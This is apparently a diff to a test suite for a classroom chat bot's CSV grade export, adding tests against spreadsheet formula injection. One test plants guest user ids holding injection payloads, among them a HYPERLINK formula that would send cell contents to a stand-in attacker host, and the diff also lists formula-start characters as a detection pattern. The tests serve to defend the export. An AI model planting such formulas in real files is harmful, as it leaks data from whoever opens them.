@@ -39,12 +39,13 @@ async def test_teacher_exports_grades_to_their_dm(harness):
     filename, rows = rows_of(sent[0])
     assert filename == "grades-PHYS12.csv"
     assert rows[0] == ["learner", "school", "A1 Lab report score", "A1 out of", "A1 late"]
-    assert rows[1:] == [[LEARNER_A, "Kura A", "", "20", "no"], [LEARNER_B, "Kura B", "17", "20", "yes"]]
+    # user ids start with @, which a spreadsheet reads as a formula: every such cell starts with an apostrophe
+    assert rows[1:] == [["'" + LEARNER_A, "Kura A", "", "20", "no"], ["'" + LEARNER_B, "Kura B", "17", "20", "yes"]]
     assert texts(out, c.staff_room) == "I've sent grades-PHYS12.csv to our direct message."
 
     out = await h.run(TEACHER_A, c.class_room, "!export grades b.test")
     filename, rows = rows_of(next(m for m in out if m.file))
-    assert filename == "grades-PHYS12-b.test.csv" and [r[0] for r in rows[1:]] == [LEARNER_B]
+    assert filename == "grades-PHYS12-b.test.csv" and [r[0] for r in rows[1:]] == ["'" + LEARNER_B]
     assert not [m for m in out if m.file and m.room_id == c.class_room]
 
 
@@ -72,12 +73,12 @@ async def test_a_school_admin_exports_only_their_own_schools_learners(harness):
     c = await graded_class(h)
     out = await h.run(ADMIN_B, SHARED_DM, "!export grades PHYS12")
     _, rows = rows_of(out[0])
-    assert [r[0] for r in rows[1:]] == [LEARNER_B] and rows[1][2] == "17"
+    assert [r[0] for r in rows[1:]] == ["'" + LEARNER_B] and rows[1][2] == "17"
     reply = await h.say(ADMIN_B, SHARED_DM, "!export grades PHYS12 a.test")
     assert "can export your own school's learners (b.test), not those of a.test" in reply
     out = await h.run(ADMIN_A, SHARED_DM, "!export grades PHYS12")
     _, rows = rows_of(out[0])
-    assert [r[0] for r in rows[1:]] == [LEARNER_A]
+    assert [r[0] for r in rows[1:]] == ["'" + LEARNER_A]
 
 
 async def test_learners_and_strangers_cannot_export_grades(harness):
@@ -98,7 +99,29 @@ async def test_names_cannot_smuggle_spreadsheet_formulas(harness):
     await h.run("@it:a.test", SHARED_DM, '!school add b.test "=HYPERLINK(1)"')
     out = await h.run(TEACHER_A, SHARED_DM, "!export grades PHYS12")
     _, rows = rows_of(out[0])
-    assert {r[0]: r[1] for r in rows[1:]}[LEARNER_B] == "'=HYPERLINK(1)"
+    assert {r[0]: r[1] for r in rows[1:]}["'" + LEARNER_B] == "'=HYPERLINK(1)"
+
+
+FORMULA_STARTS = "=+-@\t\r|%＝＋－＠"
+
+
+async def test_no_cell_of_a_grades_export_can_start_a_formula_not_even_a_guests_user_id(db):
+    """Issue 16, item 4: under allow_guests a learner's id is whatever their server calls them."""
+    from .conftest import NOW
+    from .fakes import FakeRooms, FrozenClock, Harness
+
+    h = Harness(db, FrozenClock(NOW), FakeRooms(), allow_guests=True)
+    c = await graded_class(h)
+    guests = ['@=HYPERLINK("https://evil.example/?"&A1,"x"):c.test', "@+1+1:c.test", "@-2:c.test", "@@x:c.test"]
+    for guest in guests:
+        assert "Welcome" in await h.say(guest, SHARED_DM, "!join PHYS12") or await h.repos.classes.role_of(c.klass.id, guest)
+    await h.run(TEACHER_A, c.class_room, '!assign new "-1 =SUM(A1)" due 2026-12-11 09:00 points 5')
+    out = await h.run(TEACHER_A, SHARED_DM, "!export grades PHYS12")
+    _, rows = rows_of(out[0])
+    cells = [cell for row in rows for cell in row]
+    assert {"'" + g for g in guests} <= set(r[0] for r in rows[1:])
+    dangerous = [cell for cell in cells if cell.strip(" ") and cell.lstrip(" ")[0] in FORMULA_STARTS]
+    assert dangerous == [], dangerous
 
 
 async def test_calendar_holds_the_due_dates_in_the_class_zone(harness):
